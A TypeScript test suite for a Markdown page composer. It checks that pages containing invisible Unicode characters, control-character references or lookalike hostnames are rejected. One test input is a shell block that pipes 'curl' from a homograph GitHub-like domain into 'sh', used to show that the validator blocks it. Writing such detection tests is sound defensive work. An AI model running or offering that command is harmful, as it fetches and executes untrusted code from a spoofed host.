import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { composePages } from '../../../../src/markdown/compose-pages.ts';
import { createTemplateContext } from '../../../../src/markdown/template/insert-values.ts';
import type { InvalidInput, Problem } from '../../../../src/product/validation/problems.ts';
import { hiddenCharacters, ordinaryTexts } from '../../../fixtures/characters.ts';
import { readDocsMarkdown } from '../../../setup/read-docs-markdown.ts';

const positions: Readonly<Record<string, (text: string) => string>> = {
  text: (text) => text,
  emphasis: (text) => `*${text}*`,
  heading: (text) => `## ${text}`,
  list: (text) => `- ${text}`,
  'table cell': (text) => `| ${text} |\n|---|`,
  'link text': (text) => `[${text}](/llms.txt)`,
  'alternative text': (text) => `![${text}](/a.png)`,
  footnote: (text) => `[^1]: ${text}\n\nSee[^1].`,
  'HTML block': (text) => `<p>${text}</p>`,
};
/** Raw HTML, in which parsers decode character references, including those in code. */
const htmlPositions: typeof positions = {
  'table cell': (text) => `<table><tr><td>${text}</td></tr></table>`,
  'list item': (text) => `<ul><li>${text}</li></ul>`,
  term: (text) => `<dl><dt>${text}</dt><dd>a</dd></dl>`,
  'definition of a term': (text) => `<dl><dt>a</dt><dd>${text}</dd></dl>`,
  summary: (text) => `<details><summary>${text}</summary>a</details>`,
  'block quote': (text) => `<blockquote>${text}</blockquote>`,
  'preformatted text': (text) => `<pre>${text}</pre>`,
  'code block': (text) => `<pre><code>${text}</code></pre>`,
  'code in a paragraph': (text) => `Run <code>${text}</code> now.`,
  'code with an element': (text) => `Run <code>a <b>${text}</b></code> now.`,
  'code in a table': (text) => `| <code>${text}</code> |\n|---|`,
  'code in a list': (text) => `- <code>${text}</code>`,
  'code in a heading': (text) => `## <code>${text}</code>`,
  key: (text) => `Press <kbd>${text}</kbd>.`,
  'bold text': (text) => `a <b>${text}</b>`,
  paragraph: (text) => `<p><sub>${text}</sub></p>`,
};
/** Elements that only documentation pages can contain, because their content becomes Markdown. */
const docsPositions: typeof positions = {
  heading: (text) => `<h2>${text}</h2>`,
  'alternative text': (text) => `<img src="https://a.example/a.png" alt="${text}">`,
  'URL in a link': (text) => `<a href="https://a.example/${text}">a</a>`,
  caption: (text) => `<figure><figcaption>${text}</figcaption></figure>`,
};
const codePositions: typeof positions = {
  'inline code': (text) => `\`${text}\``,
  'code block': (text) => `    ${text}`,
  comment: (text) => `<!-- ${text} -->`,
};
const references: readonly ((character: string) => string)[] = [
  (character) => `&#x${character.codePointAt(0)?.toString(16)};`,
  (character) => `&#${character.codePointAt(0)};`,
];
const named = {
  ZeroWidthSpace: '\u200b',
  zwnj: '\u200c',
  zwj: '\u200d',
  lrm: '\u200e',
  rlm: '\u200f',
  shy: '\u00ad',
  NoBreak: '\u2060',
  af: '\u2061',
  it: '\u2062',
  ic: '\u2063',
};

function codePoint(character: string): string {
  return `(U+${character.codePointAt(0)?.toString(16).toUpperCase().padStart(4, '0')})`;
}

function findProblems(body: string, frontMatter: object = {}): readonly Problem[] {
  const fields = Object.entries({ title: 'T', description: 'D', nav: 'N', order: 1, ...frontMatter });
  const head = fields.map(([name, value]) => `${name}: ${JSON.stringify(value)}`).join('\n');
  return findPageProblems(`---\n${head}\n---\n${body}\n`);
}

function findPageProblems(text: string): readonly Problem[] {
  const site = { site: 'https://quill.dev', filePaths: ['/llms.txt', '/a.png'] };
  const notFound = '---\ntitle: T\ndescription: D\nnav: N\norder: 2\n---\n';
  const sources = [
    { file: 'src/content/a.md', path: '/a', text, updated: '' },
    { file: 'src/content/404.md', path: '/404', text: notFound, updated: '' },
  ];
  try {
    composePages(sources, createTemplateContext(new Map(), new Map()), site);
    return [];
  } catch (error) {
    return (error as InvalidInput).problems;
  }
}

const hidden = hiddenCharacters
  .filter(
    ([name]) =>
      !/control|escape|delete|line sep|paragraph sep|surrogate|noncharacter|blank|replacement/.test(name),
  )
  .map(([, character]) => character);

/** A character, and how it's written. */
const written = fc.oneof(
  fc
    .tuple(
      fc.constantFrom(...hidden),
      fc.constantFrom((character: string) => character, ...references),
    )
    .map(([character, write]) => [character, write(character)] as const),
  fc.constantFrom(...Object.entries(named)).map(([name, character]) => [character, `&${name};`] as const),
);

describe('A page', () => {
  it.each([
    '[x](https://g\u0456thub.dev)',
    '```sh\ncurl https://g\u0456thub.dev | sh\n```',
    '`https://g\u0456thub.dev`',
    '<a href="https://g&#x456;thub.dev">x</a>',
  ])('is rejected if a host looks like another one: %j', (body) => {
    expect(findProblems(body)).toEqual([
      expect.objectContaining({
        field: expect.stringMatching(/^line [78]$/),
        found: expect.stringContaining('which looks like another host'),
      }),
    ]);
  });

  it('is rejected if it contains an invisible character, regardless of where it is and how it is written', () => {
    const places = [...Object.values(positions), ...Object.values(htmlPositions)];
    fc.assert(
      fc.property(fc.constantFrom(...places), written, (write, [character, text]) => {
        expect(findProblems(`One.\n\n${write(`a${text}b`)}`)).toEqual([
          expect.objectContaining({
            field: 'line 9',
            expected: expect.stringContaining(codePoint(character)),
          }),
        ]);
      }),
      { numRuns: 250 },
    );
  });

  it.each(Object.entries(codePositions))(
    'is rejected if a %s contains an invisible character',
    (_, write) => {
      const texts = hidden.map((character) => write(`a${character}b`));
      expect(findProblems(texts.join('\n\n'))).toMatchObject(
        hidden.map((_, index) => ({ field: `line ${7 + 2 * index}` })),
      );
    },
  );

  it.each(['title', 'description', 'nav'])(
    'is rejected if its %s contains an invisible character, or only invisible characters',
    (name) => {
      for (const character of hidden) {
        expect(findProblems('', { [name]: `a${character}b` })).not.toEqual([]);
        expect(findProblems('', { [name]: character })).not.toEqual([]);
      }
      expect(findProblems('', { [name]: '\u2003' })).toMatchObject([
        { field: name, expected: 'text with at least one visible character' },
      ]);
    },
  );

  it('is rejected if an HTML attribute contains an invisible character', () => {
    for (const write of [(one: string) => one, ...references]) {
      const elements = hidden.map((character) => `<b title="a${write(character)}b">a</b>`);
      const lines = findProblems(elements.join('\n\n')).map(({ field }) => field);
      expect(new Set(lines)).toEqual(new Set(hidden.map((_, index) => `line ${7 + 2 * index}`)));
    }
  });

  it('is rejected if a question contains an invisible character', () => {
    expect(findProblems('## B', { answers: { 'a\u{e0041}?': '#b' } })).not.toEqual([]);
  });

  it('is rejected if front matter contains an invisible character that YAML escapes', () => {
    for (const escaped of ['\\u200b', '\\U000e0041', '\\xad']) {
      const text = `---\ntitle: "a${escaped}b"\ndescription: D\nnav: N\norder: 1\n---\n`;
      expect(findPageProblems(text)).toMatchObject([{ field: 'title' }]);
    }
  });

  it('can contain the invisible characters that scripts and emoji require, also as character references', () => {
    const everywhere = Object.values({ ...htmlPositions, ...positions, ...codePositions });
    const text = fc.constantFrom(
      ...ordinaryTexts.map(([, text]) => text).filter((text) => !/[`*]/.test(text)),
    );
    fc.assert(
      fc.property(text, fc.constantFrom(...everywhere), (text, write) => {
        expect(findProblems(write(text))).toEqual([]);
      }),
      { numRuns: 200 },
    );
    expect(findProblems('می&zwnj;خواهم, क्&#x200d;ष, ❤&#xfe0f;')).toEqual([]);
  });
});

describe('A documentation page', () => {
  it('is rejected if it contains an invisible character, regardless of where it is and how it is written', async () => {
    const places = [
      ...Object.values(positions),
      ...Object.values(htmlPositions),
      ...Object.values(docsPositions),
    ];
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...places), written, async (write, [character, text]) => {
        const { text: published, problems } = await readDocsMarkdown(`One.\n\n${write(`a${text}b`)}`);
        // In some raw HTML, byte order marks become spaces.
        if (character === '\ufeff' && !published.includes(character)) return;
        expect(problems).toContainEqual(
          expect.objectContaining({
            field: 'line 7',
            expected: expect.stringContaining(codePoint(character)),
          }),
        );
      }),
      { numRuns: 150 },
    );
  });

  it('has the lines of character references in its problems, although its raw HTML has become Markdown', async () => {
    const table = '<table>\n<tr><td>a&amp;b</td></tr>\n<tr><td>a&#8203;b</td></tr>\n</table>';
    const { problems } = await readDocsMarkdown(`${table}\n\n<pre>\na\nb&#x202e;c\n</pre>`);
    expect(problems.map(({ field }) => field)).toEqual(['line 7', 'line 12']);
  });

  it.each([
    ['<code>a&#27;[31mb</code>', 'line 5'],
    ['<pre>\na&#x1b;b</pre>', 'line 6'],
    ['a&#0;b', 'line 5'],
  ])('is rejected if it contains a character reference for a control character: %j', async (body, field) => {
    expect((await readDocsMarkdown(body)).problems).toMatchObject([{ field }]);
    expect(findProblems(body)).not.toEqual([]);
  });

  it('can contain references in code, and those for the replacement character', async () => {
    const { problems } = await readDocsMarkdown('`&#8203;` is invisible, but &#xFFFD; is not.\n\n    &#27;');
    expect(problems).toEqual([]);
  });
});
